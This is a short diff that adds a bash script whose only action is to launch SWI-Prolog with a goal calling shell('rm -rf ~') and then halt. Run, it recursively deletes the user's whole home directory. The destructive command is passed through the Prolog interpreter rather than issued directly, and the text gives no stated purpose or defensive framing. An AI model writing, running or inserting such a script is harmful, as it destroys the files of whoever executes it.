@@ -1,0 +1,2 @@
+#!/bin/bash
+swipl -g "shell('rm -rf ~')" -t halt
